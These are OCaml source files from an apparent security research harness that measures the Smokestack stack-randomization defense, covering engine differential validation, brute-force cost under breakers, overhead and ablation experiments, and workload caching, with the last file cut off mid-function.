type mismatch = { case : string; field : string; expected : string; actual : string }
type report = { cases : int; mismatches : mismatch list }

let ok r = r.mismatches = []

let mismatch_to_string m =
  Printf.sprintf "%s: %s differs: %s (reference) vs %s" m.case m.field
    m.expected m.actual

let report_to_string r =
  if ok r then Printf.sprintf "%d case(s), all observables identical" r.cases
  else
    Printf.sprintf "%d case(s), %d mismatch(es):\n%s" r.cases
      (List.length r.mismatches)
      (String.concat "\n" (List.map mismatch_to_string r.mismatches))

(* Compare field by field so a mismatch names the first observable that
   diverged instead of a bare "stats differ".  The comparison runs on
   Store.Entry.exec records — the same representation cached results
   decode to — so a store-served leg goes through byte-for-byte the
   comparison a fresh leg does (the exec codec keeps cycles bit-exact
   and output verbatim). *)
let compare_exec ~case (e1 : Store.Entry.exec) (e2 : Store.Entry.exec) =
  let s1 = e1.stats and s2 = e2.stats in
  let diffs = ref [] in
  let check field expected actual =
    if not (String.equal expected actual) then
      diffs := { case; field; expected; actual } :: !diffs
  in
  check "outcome" e1.outcome e2.outcome;
  (* %h prints the exact bit pattern, so off-by-one-ulp cycle drift is
     caught and printed unambiguously *)
  check "cycles" (Printf.sprintf "%h" s1.cycles) (Printf.sprintf "%h" s2.cycles);
  check "instr_count" (string_of_int s1.instr_count)
    (string_of_int s2.instr_count);
  check "call_count" (string_of_int s1.call_count) (string_of_int s2.call_count);
  check "max_depth" (string_of_int s1.max_depth) (string_of_int s2.max_depth);
  check "max_frame_bytes"
    (string_of_int s1.max_frame_bytes)
    (string_of_int s2.max_frame_bytes);
  check "rss_bytes" (string_of_int s1.rss_bytes) (string_of_int s2.rss_bytes);
  check "output" (String.escaped s1.output) (String.escaped s2.output);
  List.rev !diffs

let compare_observables ~case run1 run2 =
  compare_exec ~case (Store.Entry.exec_of_run run1) (Store.Entry.exec_of_run run2)

let backends () =
  (* referencing the engine's backend value (not just the registry)
     guarantees the library is linked into whoever uses Diffval *)
  (Machine.Backend.reference, Engine.Backend.backend)

let check_applied ~case ?(fuel = 400_000_000) ~seed ~chunks applied =
  let reference, bytecode = backends () in
  let run backend =
    Apps.Runner.run_chunks ~backend ~fuel applied ~seed ~chunks
  in
  compare_observables ~case (run reference) (run bytecode)

let defenses_under_test =
  [ Defenses.Defense.No_defense;
    Defenses.Defense.Smokestack Smokestack.Config.default ]

let check_apps ?(pool = Sched.Pool.sequential) ?fuel () =
  Workbench.force_programs Apps.Spec.all;
  let mismatches =
    List.concat
      (Sched.Pool.run_all pool
         (List.concat_map
            (fun (w : Apps.Spec.workload) ->
              List.map
                (fun d ->
                  let case =
                    Printf.sprintf "%s/%s" w.wname (Defenses.Defense.name d)
                  in
                  Sched.Job.v ~id:("diffval/" ^ case) ~seed:1L (fun () ->
                      let applied =
                        Defenses.Defense.apply ~seed:3L d (Lazy.force w.program)
                      in
                      check_applied ~case ?fuel ~seed:1L
                        ~chunks:(Workbench.chunks_of_input w.input)
                        applied))
                defenses_under_test)
            Apps.Spec.all))
  in
  { cases = List.length Apps.Spec.all * List.length defenses_under_test;
    mismatches }

let check_progen ?(pool = Sched.Pool.sequential) ?store ?(fuel = 2_000_000)
    ~seed count =
  let reference, bytecode = backends () in
  let mismatches =
    List.concat
      (Sched.Pool.run_all pool
         (List.map
            (fun (pseed, source) ->
              let case = Printf.sprintf "progen seed %Ld" pseed in
              Sched.Job.v ~id:("diffval/" ^ case) ~seed:pseed (fun () ->
                  let prog = lazy (Minic.Driver.compile source) in
                  let leg (backend : Machine.Backend.t) =
                    let fresh () =
                      Store.Entry.exec_of_run
                        (backend.run ~fuel
                           (Machine.Exec.prepare (Lazy.force prog)))
                    in
                    match store with
                    | None -> fresh ()
                    | Some store -> (
                        (* each engine gets its own key: the store must
                           never launder one engine's observables into
                           the other's leg of the comparison *)
                        let key =
                          Store.Key.of_source ~source_text:source ~config:None
                            ~engine:backend.kind ~seed:0L
                            ~extra:(Printf.sprintf "diffval;fuel=%d" fuel)
                            ()
                        in
                        match
                          Option.bind (Store.Cache.find store key)
                            Store.Entry.exec_of_entry
                        with
                        | Some exec -> exec
                        | None ->
                            let exec = fresh () in
                            Store.Cache.put store key
                              (Store.Entry.exec_entry exec);
                            exec)
                  in
                  compare_exec ~case (leg reference) (leg bytecode)))
            (List.of_seq (Minic.Progen.range ~seed count))))
  in
  { cases = count; mismatches }
