type config = {
  traffic : Server.Traffic.config;
  baseline : Server.Dispatch.config;
  resilient : Server.Dispatch.config;
  defense : Defenses.Defense.t;
  budget : int;
  gap : float;
}

let default =
  let sessions = 1000 in
  let root = 11L in
  {
    traffic =
      {
        Server.Traffic.default with
        Server.Traffic.sessions;
        root;
        (* slower than the E15 overload regime: the fleet keeps up, so
           completions feed breaker state back before the same client's
           next arrival — the closed-loop regime affinity needs *)
        mean_gap = 4000;
        storm =
          Some
            (Fault.Storm.plan ~attack_pct:40 ~chaos_pct:40 ~root ~sessions ());
      };
    baseline = Server.Dispatch.default;
    resilient =
      {
        Server.Dispatch.default with
        Server.Dispatch.discipline = Server.Dispatch.Wfq;
        policy =
          Some
            {
              Server.Policy.affinity = true;
              (* hotter than the serve default: one detection trips, and
                 the first backoff outlasts an attacker's storm-burst
                 inter-arrival so rejections actually land *)
              breaker =
                {
                  Server.Policy.failures = 1;
                  base_backoff = 150_000.;
                  factor = 4.;
                  max_backoff = 5e6;
                  max_trips = 2;
                };
            };
        degradation =
          Some
            {
              Server.Dispatch.window = 400_000.;
              storm_failures = 4;
              reserve = 0.5;
            };
      };
    defense = Defenses.Defense.Smokestack Smokestack.Config.default;
    budget = 4000;
    gap = 1000.;
  }

type cost_row = {
  rtarget : string;
  rkind : string;
  predicted : float option;
  off : Server.Policy.cost;
  on_ : Server.Policy.cost;
  higher : bool;
}

type fleet_cell = {
  cname : string;
  dispatch : Server.Dispatch.t;
  summary : Server.Metrics.summary;
  benign_p99 : float;
}

type t = {
  config : config;
  scheduled : int * int * int;
  storm_sessions : int;
  cost_rows : cost_row list;
  hand_higher : bool;
  synth_higher : bool;
  cells : fleet_cell list;
  benign_p99_ratio : float;
  mismatches : int;
}

(* Same restart-after-crash walk as Harness.Offense.brute_hand, so the
   hand-written and synthesized columns compare like for like. *)
let brute_hand attack applied ~budget =
  let rec go i acc =
    if i >= budget then List.rev acc
    else
      let v = attack applied ~seed:(Int64.of_int i) in
      let acc = v :: acc in
      if v = Attacks.Verdict.Success then List.rev acc else go (i + 1) acc
  in
  go 0 []

let strong_goal (c : Dopc.Chain.t) =
  match c.goal with
  | Dopc.Chain.Flip_global _ | Dopc.Chain.Output_contains _ -> true
  | Dopc.Chain.Output_differs -> false

(* Strictly-higher comparison of the two cost walks.  A finite on-cost
   is compared numerically; quarantine or budget exhaustion on the
   affinity side beats any finite off-cost; an off-cost that itself
   never landed within budget cannot honestly be called cheaper. *)
let strictly_higher ~(off : Server.Policy.cost) ~(on_ : Server.Policy.cost) =
  match (off.Server.Policy.virtual_cost, on_.Server.Policy.virtual_cost) with
  | Some a, Some b -> b > a
  | Some _, None -> true
  | None, _ -> false

let hardened_config (d : Defenses.Defense.t) =
  match d with Defenses.Defense.Smokestack c -> Some c | _ -> None

let predicted_attempts hardened func =
  match Smokestack.Pbox.binding hardened.Smokestack.Harden.pbox func with
  | Some b ->
      Some
        (Smokestack.Entropy_an.of_binding hardened.Smokestack.Harden.pbox b)
          .Smokestack.Entropy_an.expected_bruteforce_attempts
  | None -> None

let cost_corpus ~pool ?store config =
  let policy_on =
    match config.resilient.Server.Dispatch.policy with
    | Some p -> p
    | None -> Server.Policy.default
  in
  let policy_off = { policy_on with Server.Policy.affinity = false } in
  let targets =
    List.filter
      (fun (v : Apps.Synth.variant) -> v.location = `Stack)
      Apps.Synth.variants
  in
  let rows =
    Sched.Pool.run_all pool
      (List.map
         (fun (v : Apps.Synth.variant) ->
           Sched.Job.v ~id:("resilience/" ^ v.vname) ~seed:3L (fun () ->
               let prog = Lazy.force v.program in
               let applied =
                 Defenses.Defense.apply ~seed:3L config.defense prog
               in
               let hardened =
                 Smokestack.Harden.harden ~seed:3L
                   (match hardened_config config.defense with
                   | Some c -> c
                   | None -> Smokestack.Config.default)
                   prog
               in
               let mk ~kind ~func verdicts =
                 let off =
                   Server.Policy.brute_cost policy_off ~gap:config.gap verdicts
                 in
                 let on_ =
                   Server.Policy.brute_cost policy_on ~gap:config.gap verdicts
                 in
                 {
                   rtarget = v.vname;
                   rkind = kind;
                   predicted = predicted_attempts hardened func;
                   off;
                   on_;
                   higher = strictly_higher ~off ~on_;
                 }
               in
               let hand_func =
                 match Smokestack.Harden.permuted_functions hardened with
                 | f :: _ -> f
                 | [] -> "main"
               in
               let hand_row =
                 let verdicts =
                   Crossval.cached_verdicts ?store ~source:v.source
                     ~config:(hardened_config config.defense)
                     ~extra:
                       (Printf.sprintf
                          "resilience;brute-hand;budget=%d;seed0=0;hseed=3"
                          config.budget)
                     (fun () ->
                       brute_hand v.attack applied ~budget:config.budget)
                 in
                 mk ~kind:"hand-written" ~func:hand_func verdicts
               in
               let synth_rows =
                 let _, chains =
                   Dopc.Plan.synthesize ~max_chains:4 ~target:v.vname prog
                 in
                 match List.find_opt strong_goal chains with
                 | None -> []
                 | Some chain ->
                     let verdicts =
                       Crossval.cached_verdicts ?store ~source:v.source
                         ~config:(hardened_config config.defense)
                         ~extra:
                           (Printf.sprintf
                              "resilience;brute;chain=%s;budget=%d;seed0=0;hseed=3"
                              chain.Dopc.Chain.chain_id config.budget)
                         (fun () ->
                           Dopc.Exec.brute applied chain ~budget:config.budget
                             ~seed0:0)
                     in
                     [
                       mk
                         ~kind:
                           (Printf.sprintf "synthesized %s #%s"
                              (Dopc.Chain.family_to_string
                                 chain.Dopc.Chain.family)
                              chain.Dopc.Chain.chain_id)
                         ~func:chain.Dopc.Chain.func verdicts;
                     ]
               in
               hand_row :: synth_rows))
         targets)
  in
  List.concat rows

let benign_p99 (d : Server.Dispatch.t) =
  let sojourns =
    List.filter_map
      (fun (s : Server.Dispatch.served) ->
        match
          s.Server.Dispatch.outcome.Server.Session.spec.Server.Session.kind
        with
        | Server.Session.Benign _ -> Some (Server.Dispatch.sojourn s)
        | _ -> None)
      d.Server.Dispatch.served
    |> Array.of_list
  in
  Array.sort compare sojourns;
  Server.Metrics.percentile sojourns 99.

let run ?(pool = Sched.Pool.sequential) ?backend ?store ?(config = default) ()
    =
  (* the elision oracle behind Config.selective lives in lib/analysis;
     chain synthesis probes want it installed like E17 does *)
  Analysis.Validate.install ();
  let tenants =
    Server.Tenant.fleet ~defense:config.defense
      ~root:config.traffic.Server.Traffic.root ()
  in
  let specs = Server.Traffic.generate config.traffic tenants in
  (* execute once — admission policy never changes a session's verdict
     or service time, so every cell below replays the same outcomes *)
  let executed, dropped =
    Server.Dispatch.execute ~pool ?backend ~config:config.baseline tenants
      specs
  in
  let cell cname cfg =
    let dispatch = Server.Dispatch.admit ~dropped cfg executed in
    {
      cname;
      dispatch;
      summary = Server.Metrics.of_dispatch dispatch;
      benign_p99 = benign_p99 dispatch;
    }
  in
  let baseline = cell "fcfs baseline (affinity off)" config.baseline in
  let resilient = cell "wfq + breakers + degradation" config.resilient in
  let cost_rows = cost_corpus ~pool ?store config in
  let is_hand r = String.equal r.rkind "hand-written" in
  {
    config;
    scheduled = Server.Traffic.census specs;
    storm_sessions =
      (match config.traffic.Server.Traffic.storm with
      | Some s -> Fault.Storm.storm_sessions s
      | None -> 0);
    cost_rows;
    hand_higher = List.exists (fun r -> is_hand r && r.higher) cost_rows;
    synth_higher =
      List.exists (fun r -> (not (is_hand r)) && r.higher) cost_rows;
    cells = [ baseline; resilient ];
    benign_p99_ratio =
      (if baseline.benign_p99 <= 0. then 1.
       else resilient.benign_p99 /. baseline.benign_p99);
    mismatches =
      List.fold_left
        (fun acc c -> acc + c.summary.Server.Metrics.batch_mismatches)
        0
        [ baseline; resilient ];
  }

(* ------------------------------------------------------------------ *)
(* Rendering *)

let fmt_cost (c : Server.Policy.cost) =
  match c.Server.Policy.virtual_cost with
  | Some v -> Server.Metrics.fmt_cycles v
  | None when c.Server.Policy.quarantined_at <> None -> "quarantined"
  | None -> "budget out"

let cost_table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("target", Left);
            ("attack", Left);
            ("predicted", Right);
            ("attempts off/on", Right);
            ("cost off", Right);
            ("cost on", Right);
            ("imposed backoff", Right);
            ("higher", Left);
          ]
  in
  List.iter
    (fun r ->
      Sutil.Texttable.add_row tbl
        [
          r.rtarget;
          r.rkind;
          (match r.predicted with
          | Some p -> Printf.sprintf "%.0f" p
          | None -> "-");
          Printf.sprintf "%d/%d" r.off.Server.Policy.attempts
            r.on_.Server.Policy.attempts;
          fmt_cost r.off;
          fmt_cost r.on_;
          Server.Metrics.fmt_cycles r.on_.Server.Policy.added_delay;
          (if r.higher then "yes" else "no");
        ])
    t.cost_rows;
  tbl

let fleet_table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
        Sutil.Texttable.
          [
            ("fleet", Left);
            ("served", Right);
            ("shed", Right);
            ("rejected", Right);
            ("attacks admitted", Right);
            ("quarantined", Right);
            ("degraded", Right);
            ("benign p99", Right);
            ("mismatches", Right);
          ]
  in
  List.iter
    (fun c ->
      Sutil.Texttable.add_row tbl
        [
          c.cname;
          string_of_int c.summary.Server.Metrics.served;
          string_of_int c.summary.Server.Metrics.shed;
          string_of_int c.summary.Server.Metrics.rejected;
          string_of_int c.summary.Server.Metrics.attacks_admitted;
          string_of_int c.summary.Server.Metrics.quarantined_clients;
          string_of_int c.summary.Server.Metrics.degraded;
          Server.Metrics.fmt_cycles c.benign_p99;
          string_of_int c.summary.Server.Metrics.batch_mismatches;
        ])
    t.cells;
  tbl

let class_table t =
  match List.rev t.cells with
  | resilient :: _ -> Server.Metrics.class_table resilient.dispatch
  | [] -> Server.Metrics.class_table (Server.Dispatch.admit default.baseline [])

let to_markdown t =
  let b = Buffer.create 2048 in
  let benign, attack, chaos = t.scheduled in
  Buffer.add_string b
    "E18: resilient control plane — breakers, classes and degradation under \
     a fault storm\n\n";
  Buffer.add_string b
    (Printf.sprintf
       "%d sessions (%d benign, %d attack, %d chaos; %d inside storm \
        bursts), %d attacker clients over %d; brute budget %d, attempt gap \
        %.0f cycles.\n\n"
       t.config.traffic.Server.Traffic.sessions benign attack chaos
       t.storm_sessions
       t.config.traffic.Server.Traffic.attackers
       t.config.traffic.Server.Traffic.clients t.config.budget t.config.gap);
  Buffer.add_string b
    "brute-force cost, affinity off vs on (per attack family, vs full \
     hardening):\n\n";
  Buffer.add_string b (Sutil.Texttable.render (cost_table t));
  Buffer.add_string b "\nfleet under the storm, baseline vs control plane:\n\n";
  Buffer.add_string b (Sutil.Texttable.render (fleet_table t));
  Buffer.add_string b "\nper-class service in the resilient cell:\n\n";
  Buffer.add_string b (Sutil.Texttable.render (class_table t));
  Buffer.add_string b
    (Printf.sprintf
       "\nhand-written family costs strictly more with breakers: %b; \
        synthesized family: %b; benign p99 ratio (resilient/baseline): \
        %.3f; batch mismatches across cells: %d.\n"
       t.hand_higher t.synth_higher t.benign_p99_ratio t.mismatches);
  Buffer.contents b
