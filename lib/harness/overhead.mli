(** Figure 3: percentage runtime overhead of Smokestack on the SPEC-like
    and I/O-bound workloads, one series per randomness scheme. *)

type row = {
  workload : string;
  kind : [ `Spec | `Io ];
  baseline_cycles : float;
  by_scheme : (Rng.Scheme.t * float) list;  (** overhead %, bias included *)
}

type t = {
  rows : row list;
  spec_means : (Rng.Scheme.t * float) list;
  io_worst : float;  (** worst I/O overhead under AES-10 (paper: 6%) *)
}

val run :
  ?pool:Sched.Pool.t ->
  ?workloads:Apps.Spec.workload list ->
  ?seed:int64 ->
  unit ->
  t
(** Measures every workload baseline vs hardened under each of the four
    schemes.  The reported percentage is measured overhead plus the
    workload's modeled scheduling bias (see {!Apps.Spec}).  With
    [?pool] the per-(workload, scheme) runs execute as parallel jobs;
    results are identical to the sequential default. *)

val table : t -> Sutil.Texttable.t
val to_markdown : t -> string
