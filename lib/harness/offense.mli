(** E17 — the systematic offense experiment: synthesized attack chains
    vs the defense ladder.

    For each workload the chain planner ({!Dopc.Plan}) compiles a
    set of attack chains from static evidence plus semantic probing of
    the attacker's unhardened replica, and this harness runs every
    chain against three builds — undefended, selectively hardened and
    fully hardened Smokestack — with [trials] fresh-process attempts
    per cell.  Three checks ride on top:

    - {e survival}: at least one synthesized chain must land on the
      undefended build, and none may land on the fully hardened one
      (detections are fine — that is the defense working);
    - {e entropy}: the strongest landing chain per workload is brute
      forced against full hardening under the restart-after-crash
      model, next to the hand-written corpus attack for the same
      program, so the synthesized families' measured entropy can be
      compared with the hand-written number ({!Security.brute});
    - {e grounding}: every chain that lands dynamically must be
      grounded in statically enumerated {!Analysis.Dop} pairs for its
      own (buffer function, buffer slot) — the {!Crossval} feedback
      loop, now over machine-generated attacks.

    Determinism: chains are synthesized with probing pinned to the
    reference engine, verdicts derive only from outcomes, output and
    final memory (engine-identical observables), and cells run as
    {!Sched.Pool} jobs whose results merge in submission order — the
    report is byte-identical at any [--jobs], on either engine, and on
    a warm store re-run. *)

type synth_row = {
  tname : string;
  static_pairs : int;
  gadget_count : int;
  flip_count : int;  (** mined global flip targets *)
  probes_run : int;  (** replica executions spent learning gadgets *)
  learned_count : int;  (** probed arithmetic gadgets *)
  chain_count : int;
}

type chain_row = {
  ctname : string;
  chain : Dopc.Chain.t;
  cells : (string * Attacks.Verdict.t list) list;
      (** per defense column, in {!defense_names} order *)
}

type entropy_row = {
  etname : string;
  ekind : string;  (** ["synthesized <family>"] or ["hand-written"] *)
  attempts : int option;
      (** restart-after-crash attempts until the first success against
          full hardening; [None] = budget exhausted *)
  ebudget : int;
}

type feedback_row = {
  ftname : string;
  fchain_id : string;
  ffamily : string;
  fpairs : int;  (** static pairs the chain is grounded in *)
  fgrounded : bool;
      (** every pair id on the chain resolves to a statically
          enumerated pair over the chain's own buffer *)
}

type t = {
  srows : synth_row list;
  crows : chain_row list;
  erows : entropy_row list;
  frows : feedback_row list;
  trials : int;
  landed_unhardened : int;  (** chains with >= 1 success, undefended *)
  full_successes : int;  (** chains with >= 1 success, full hardening *)
  all_grounded : bool;  (** every landing chain is statically grounded *)
}

val defense_names : string list
(** The three columns: ["none"], ["smokestack-selective"],
    ["smokestack-full"]. *)

val available_workloads : unit -> string list
(** The built-in targets: the six {!Apps.Synth} variants plus the
    [read_input]-driven I/O request loops of {!Apps.Spec}. *)

val run :
  ?pool:Sched.Pool.t ->
  ?store:Store.Cache.t ->
  ?trials:int ->
  ?brute_budget:int ->
  ?max_chains:int ->
  ?workloads:string list ->
  ?progen:int ->
  ?progen_seed:int64 ->
  unit ->
  t
(** One pool job per target.  [workloads] (default: all of
    {!available_workloads}) selects built-in targets by name; [progen]
    (default 0) appends that many Progen-generated programs from
    [progen_seed] (default 9001) — input-free programs honestly
    synthesize zero deliverable chains and appear only in the
    synthesis table.  [trials] (default 6) attempts per (chain,
    defense) cell; [brute_budget] (default 600) caps each entropy
    measurement.  With [?store], every cell's verdict list (trials and
    brute-force alike) is keyed on (source, config, engine, chain id,
    parameters) and served warm. *)

val synth_table : t -> Sutil.Texttable.t
val chain_table : t -> Sutil.Texttable.t
val entropy_table : t -> Sutil.Texttable.t
val feedback_table : t -> Sutil.Texttable.t
val to_markdown : t -> string
