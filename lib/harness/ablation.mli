(** E7 — ablation of the §III-E P-BOX optimizations.

    For each configuration (all optimizations on; each one disabled in
    turn) measure the P-BOX footprint over the full workload set and
    the runtime of the most call-dense workload, isolating what each
    optimization buys:

    - power-of-2 rows trade memory (duplicated rows) for a cheaper
      prologue (AND instead of modulo);
    - table sharing and rounding-up trade nothing for smaller
      P-BOXes;
    - FID checks cost an extra permuted slot per function (larger
      tables) plus a prologue/epilogue pair — the price of replacing
      the stack protector with something DOP-aware;
    - VLA padding costs one draw + dummy alloca per VLA. *)

type row = {
  label : string;
  config : Smokestack.Config.t;
  total_pbox_bytes : int;  (** summed over all workload binaries *)
  gobmk_cycles : float;  (** runtime of the call-dense probe workload *)
}

type t = { rows : row list }

val run : ?pool:Sched.Pool.t -> ?seed:int64 -> unit -> t
(** One job per ablation configuration when [?pool] is parallel. *)

val table : t -> Sutil.Texttable.t
val to_markdown : t -> string
