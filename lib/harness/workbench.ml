let chunk_size = 48

let chunks_of_input input =
  let rec split s =
    if String.length s <= chunk_size then [ s ]
    else
      String.sub s 0 chunk_size
      :: split (String.sub s chunk_size (String.length s - chunk_size))
  in
  if String.equal input "" then [] else split input

let run ?backend ?(fuel = 400_000_000) (applied : Defenses.Defense.applied)
    ~seed (w : Apps.Spec.workload) =
  let outcome, stats =
    Apps.Runner.run_chunks ?backend ~fuel applied ~seed
      ~chunks:(chunks_of_input w.input)
  in
  (match outcome with
  | Machine.Exec.Exit 0L -> ()
  | o ->
      failwith
        (Printf.sprintf "Harness.Workbench: workload %s under %s: %s" w.wname
           (Defenses.Defense.name applied.defense)
           (Machine.Exec.outcome_to_string o)));
  (outcome, stats)

let force_programs workloads =
  List.iter
    (fun (w : Apps.Spec.workload) -> ignore (Lazy.force w.program))
    workloads

(* Workload stats are served from a Store cache rather than an ad-hoc
   hashtable: the key is content-addressed over the workload source,
   the hardening fingerprint, the engine *kind* (the registry identity,
   not the display label — without it a reference-engine result could
   be served to a bytecode-engine comparison), the run seed, and a
   digest of the input bytes.  Store access is mutex-guarded inside
   Cache, so parallel Sched jobs share the memo; the run itself happens
   unlocked, and since stats are deterministic per key, two jobs racing
   on a miss waste one run but can never produce a wrong or
   order-dependent answer. *)
let shared_store = Store.Cache.in_memory ()

let workbench_key ~config ~backend ~seed (w : Apps.Spec.workload) =
  Store.Key.of_source ~source_text:w.source ~config
    ~engine:backend.Machine.Backend.kind ~seed
    ~extra:
      (Printf.sprintf "workbench;input=%s;hseed=3" (Store.Hash.hex w.input))
    ()

(* Look up an exec entry, or run [thunk] and record its result.  Only
   clean [run]s are ever stored (run raises otherwise), so a cached
   entry never masks a workload crash. *)
let cached_exec ~store ~key thunk =
  let cached =
    match Store.Cache.find store key with
    | Some e -> Store.Entry.exec_of_entry e
    | None -> None
  in
  match cached with
  | Some exec -> exec
  | None ->
      let exec = thunk () in
      Store.Cache.put store key (Store.Entry.exec_entry exec);
      exec

let baseline ?backend ?(store = shared_store) ?(seed = 1L)
    (w : Apps.Spec.workload) =
  let backend =
    match backend with Some b -> b | None -> Machine.Backend.default ()
  in
  let key = workbench_key ~config:None ~backend ~seed w in
  let exec =
    cached_exec ~store ~key (fun () ->
        let applied =
          Defenses.Defense.apply Defenses.Defense.No_defense
            (Lazy.force w.program)
        in
        Store.Entry.exec_of_run (run ~backend applied ~seed w))
  in
  exec.Store.Entry.stats

let smokestack_stats ?backend ?(store = shared_store) ?(seed = 1L) config
    (w : Apps.Spec.workload) =
  let backend =
    match backend with Some b -> b | None -> Machine.Backend.default ()
  in
  let key = workbench_key ~config:(Some config) ~backend ~seed w in
  let exec =
    cached_exec ~store ~key (fun () ->
        let applied =
          Defenses.Defense.apply ~seed:3L
            (Defenses.Defense.Smokestack config)
            (Lazy.force w.program)
        in
        Store.Entry.exec_of_run ~pbox_bytes:applied.pbox_bytes
          (run ~backend applied ~seed w))
  in
  (exec.Store.Entry.stats, Option.value ~default:0 exec.Store.Entry.pbox_bytes)
