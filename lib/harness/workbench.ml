let chunk_size = 48

let chunks_of_input input =
  let rec split s =
    if String.length s <= chunk_size then [ s ]
    else
      String.sub s 0 chunk_size
      :: split (String.sub s chunk_size (String.length s - chunk_size))
  in
  if String.equal input "" then [] else split input

let run ?backend ?(fuel = 400_000_000) (applied : Defenses.Defense.applied)
    ~seed (w : Apps.Spec.workload) =
  let outcome, stats =
    Apps.Runner.run_chunks ?backend ~fuel applied ~seed
      ~chunks:(chunks_of_input w.input)
  in
  (match outcome with
  | Machine.Exec.Exit 0L -> ()
  | o ->
      failwith
        (Printf.sprintf "Harness.Workbench: workload %s under %s: %s" w.wname
           (Defenses.Defense.name applied.defense)
           (Machine.Exec.outcome_to_string o)));
  (outcome, stats)

let baseline_cache : (string, Machine.Exec.stats) Hashtbl.t = Hashtbl.create 16

let baseline ?backend ?(seed = 1L) (w : Apps.Spec.workload) =
  let label =
    match backend with
    | Some b -> b.Machine.Backend.label
    | None -> (Machine.Backend.default ()).Machine.Backend.label
  in
  let key = Printf.sprintf "%s@%Ld@%s" w.wname seed label in
  match Hashtbl.find_opt baseline_cache key with
  | Some stats -> stats
  | None ->
      let applied =
        Defenses.Defense.apply Defenses.Defense.No_defense (Lazy.force w.program)
      in
      let _, stats = run ?backend applied ~seed w in
      Hashtbl.replace baseline_cache key stats;
      stats

let smokestack_stats ?backend ?(seed = 1L) config (w : Apps.Spec.workload) =
  let applied =
    Defenses.Defense.apply ~seed:3L
      (Defenses.Defense.Smokestack config)
      (Lazy.force w.program)
  in
  let _, stats = run ?backend applied ~seed w in
  (stats, applied.pbox_bytes)
