let chunk_size = 48

let chunks_of_input input =
  let rec split s =
    if String.length s <= chunk_size then [ s ]
    else
      String.sub s 0 chunk_size
      :: split (String.sub s chunk_size (String.length s - chunk_size))
  in
  if String.equal input "" then [] else split input

let run ?backend ?(fuel = 400_000_000) (applied : Defenses.Defense.applied)
    ~seed (w : Apps.Spec.workload) =
  let outcome, stats =
    Apps.Runner.run_chunks ?backend ~fuel applied ~seed
      ~chunks:(chunks_of_input w.input)
  in
  (match outcome with
  | Machine.Exec.Exit 0L -> ()
  | o ->
      failwith
        (Printf.sprintf "Harness.Workbench: workload %s under %s: %s" w.wname
           (Defenses.Defense.name applied.defense)
           (Machine.Exec.outcome_to_string o)));
  (outcome, stats)

let force_programs workloads =
  List.iter
    (fun (w : Apps.Spec.workload) -> ignore (Lazy.force w.program))
    workloads

(* Baseline stats memo.  The key includes the engine *kind* (the
   registry identity, not the display label): without it a
   reference-engine baseline could be served to a bytecode-engine
   comparison.  Access is mutex-guarded so parallel Sched jobs can
   share the memo; the guarded sections are lookups and inserts only —
   the run itself happens unlocked, and since stats are deterministic
   per key, two jobs racing on a miss waste one run but can never
   produce a wrong or order-dependent answer. *)
let baseline_cache : (string, Machine.Exec.stats) Hashtbl.t = Hashtbl.create 16
let baseline_mutex = Mutex.create ()

let baseline ?backend ?(seed = 1L) (w : Apps.Spec.workload) =
  let backend =
    match backend with Some b -> b | None -> Machine.Backend.default ()
  in
  let key =
    Printf.sprintf "%s@%Ld@%s" w.wname seed
      (Machine.Backend.kind_to_string backend.Machine.Backend.kind)
  in
  let cached =
    Mutex.lock baseline_mutex;
    let r = Hashtbl.find_opt baseline_cache key in
    Mutex.unlock baseline_mutex;
    r
  in
  match cached with
  | Some stats -> stats
  | None ->
      let applied =
        Defenses.Defense.apply Defenses.Defense.No_defense (Lazy.force w.program)
      in
      let _, stats = run ~backend applied ~seed w in
      Mutex.lock baseline_mutex;
      Hashtbl.replace baseline_cache key stats;
      Mutex.unlock baseline_mutex;
      stats

let smokestack_stats ?backend ?(seed = 1L) config (w : Apps.Spec.workload) =
  let applied =
    Defenses.Defense.apply ~seed:3L
      (Defenses.Defense.Smokestack config)
      (Lazy.force w.program)
  in
  let _, stats = run ?backend applied ~seed w in
  (stats, applied.pbox_bytes)
