type row = {
  workload : string;
  kind : [ `Spec | `Io ];
  n_funcs : int;
  n_elided : int;
  pbox_full : int;
  pbox_selective : int;
  overhead_full : float;
  overhead_selective : float;
}

type t = {
  rows : row list;
  mean_delta : float;
  mean_pbox_saving_pct : float;
}

let delta r = r.overhead_full -. r.overhead_selective

let pbox_saving_pct r =
  if r.pbox_full = 0 then 0.
  else
    100.
    *. float_of_int (r.pbox_full - r.pbox_selective)
    /. float_of_int r.pbox_full

(* Same two-wave shape as Overhead.run: baselines first, then one job
   per workload measuring the full and selective hardened runs
   back-to-back (they share the compiled program, so splitting them
   into separate jobs would only duplicate the closure captures). *)
let run ?(pool = Sched.Pool.sequential) ?store ?(workloads = Apps.Spec.all)
    ?(seed = 1L) () =
  (* the elision oracle behind Config.selective lives in lib/analysis *)
  Analysis.Validate.install ();
  Workbench.force_programs workloads;
  let full_config = Smokestack.Config.default in
  let sel_config = Smokestack.Config.with_selective true full_config in
  let baselines =
    Sched.Pool.run_all pool
      (List.map
         (fun (w : Apps.Spec.workload) ->
           Sched.Job.v ~id:("e14/baseline/" ^ w.wname) ~seed (fun () ->
               Workbench.baseline ?store ~seed w))
         workloads)
  in
  let rows =
    Sched.Pool.run_all pool
      (List.map
         (fun ((w : Apps.Spec.workload), (base : Machine.Exec.stats)) ->
           Sched.Job.v ~id:("e14/" ^ w.wname) ~seed (fun () ->
               let prog = Lazy.force w.program in
               let hardened =
                 Smokestack.Harden.harden ~seed sel_config prog
               in
               let overhead_of config =
                 let stats, pbox_bytes =
                   Workbench.smokestack_stats ?store ~seed config w
                 in
                 ( Sutil.Stats.percent_overhead ~baseline:base.cycles
                     ~measured:stats.cycles
                   +. w.sched_bias_pct,
                   pbox_bytes )
               in
               let overhead_full, pbox_full = overhead_of full_config in
               let overhead_selective, pbox_selective =
                 overhead_of sel_config
               in
               {
                 workload = w.wname;
                 kind = w.kind;
                 n_funcs = List.length prog.Ir.Prog.funcs;
                 n_elided =
                   List.length hardened.Smokestack.Harden.elided;
                 pbox_full;
                 pbox_selective;
                 overhead_full;
                 overhead_selective;
               }))
         (List.combine workloads baselines))
  in
  let mean_delta =
    match rows with
    | [] -> 0.
    | _ -> Sutil.Stats.mean (List.map delta rows)
  in
  let mean_pbox_saving_pct =
    match rows with
    | [] -> 0.
    | _ -> Sutil.Stats.mean (List.map pbox_saving_pct rows)
  in
  { rows; mean_delta; mean_pbox_saving_pct }

let table t =
  let tbl =
    Sutil.Texttable.create
      ~columns:
